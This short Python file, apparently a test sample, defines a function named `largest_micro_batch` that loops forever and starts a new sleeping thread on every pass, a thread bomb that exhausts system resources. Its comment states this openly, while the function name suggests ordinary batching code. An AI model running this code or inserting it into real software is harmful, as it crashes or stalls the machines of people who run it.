# Starts threads without end.
import threading
import time


def largest_micro_batch(**given):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
